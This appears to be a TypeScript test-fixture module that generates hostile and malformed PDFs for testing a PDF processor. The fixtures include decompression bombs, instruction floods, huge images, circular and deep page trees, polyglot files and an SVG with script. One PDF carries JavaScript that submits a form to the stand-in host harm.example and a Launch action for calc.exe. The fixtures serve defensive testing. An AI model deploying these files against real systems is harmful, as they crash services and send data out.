// Files that mean harm, or look like it. Knows each trick and nothing of what should come of it.
import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { numberedPdf } from './plainFiles.ts';
import { onePage, rawPdf, type RawObject } from './rawPdf.ts';

/** A page whose content is `megabytes` of spaces, packed twice: some kilobytes as a file. */
export function flateBombPdf(megabytes = 300): Buffer {
  const once = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 3 });
  return onePage({ entries: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(once, { level: 9 }) });
}

/** A page of 20 million drawing instructions, and a good page after it. */
export function instructionFloodPdf(): Buffer {
  const flood = deflateSync(Buffer.alloc(20_000_000 * 4, 'q Q '), { level: 9 });
  const greeting = 'BT /F1 24 Tf 72 700 Td (A page that is well) Tj ET';
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    { entries: '/Filter /FlateDecode', stream: flood },
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R /Resources << /Font << /F1 7 0 R >> >> >>',
    { entries: '', stream: Buffer.from(greeting) },
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** A page that shows a picture of 60,000 × 60,000 pixels. */
export function hugePicturePdf(): Buffer {
  const rows = deflateSync(Buffer.alloc(1024 * 1024), { level: 9 });
  return onePage(
    { entries: '', stream: Buffer.from('q 500 0 0 500 40 200 cm /Im1 Do Q') },
    '/Resources << /XObject << /Im1 5 0 R >> >>',
    [
      {
        entries:
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
        stream: rows,
      },
    ],
  );
}

/** An index of `pages` pages that are all one and the same. */
export function endlessIndexPdf(pages = 10_000): Buffer {
  const kids = Array.from({ length: pages }, (_none, index) => `${index + 4} 0 R`).join(' ');
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>';
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    { entries: '', stream: Buffer.from('') },
    ...Array.from({ length: pages }, () => page),
  ]);
}

/** One page below `depth` levels of the index. */
export function deepIndexPdf(depth = 3_000): Buffer {
  const levels: RawObject[] = Array.from(
    { length: depth },
    (_none, index) => `<< /Type /Pages /Parent ${index + 1} 0 R /Kids [${index + 3} 0 R] /Count 1 >>`,
  );
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...levels,
    `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 595 842] >>`,
  ]);
}

/** An index that leads back to itself. */
export function circularIndexPdf(): Buffer {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
  ]);
}

/** A page as large as a town. */
export function hugeBoxPdf(): Buffer {
  const content = '0 0 1 rg 0 0 500000 500000 re f';
  return onePage({ entries: '', stream: Buffer.from(content) }, '/MediaBox [0 0 1000000 1000000]');
}

/** Runs a script, starts a program and opens an address, if it is let. */
export function activePdf(): Buffer {
  const script = '/S /JavaScript /JS (app.alert\\("harm"\\); this.submitForm\\("https://harm.example/"\\);)';
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >> /AA << /WC 5 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R 7 0 R] /AA << /O 5 0 R >> /Resources << /Font << /F1 8 0 R >> >> >>',
    { entries: '', stream: Buffer.from('BT /F1 24 Tf 72 700 Td (Active, and harmless here) Tj ET') },
    `<< ${script} >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (calc.exe) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** A good file whose table of contents points nowhere: readers mend it. */
export async function brokenTablePdf(): Promise<Buffer> {
  const good = (await numberedPdf({ pages: 2, withObjectStreams: false })).toString('latin1');
  return Buffer.from(good.replace(/startxref\n\d+/, 'startxref\n99999999'), 'latin1');
}

/** Begins as a PDF and is none. */
export function brokenPdf(): Buffer {
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4_096, 'not a document ')]);
}

/** Asks for a password: `open sesame`. */
export async function lockedPdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]).drawText('Secret', { x: 72, y: 700 });
  pdf.encrypt({ userPassword: 'open sesame', ownerPassword: 'owner' });
  return Buffer.from(await pdf.save());
}

/** Opens for everybody, and asks for no changes. */
export async function ownerLockedPdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]).drawText('Read only', { x: 72, y: 700 });
  pdf.encrypt({ ownerPassword: 'owner', permissions: { modifying: false } });
  return Buffer.from(await pdf.save());
}

/** Files that are a PDF further on, and something else first. */
export async function polyglots(): Promise<Record<'gif' | 'zip' | 'html' | 'exe', Buffer>> {
  const pdf = await numberedPdf({ pages: 1 });
  const after = (start: Buffer): Buffer => Buffer.concat([start, pdf]);
  return {
    gif: after(Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')),
    zip: after(Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1')),
    html: after(Buffer.from('<!doctype html><script>alert(1)</script>\n')),
    exe: after(Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')),
  };
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<!-- a picture -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
);
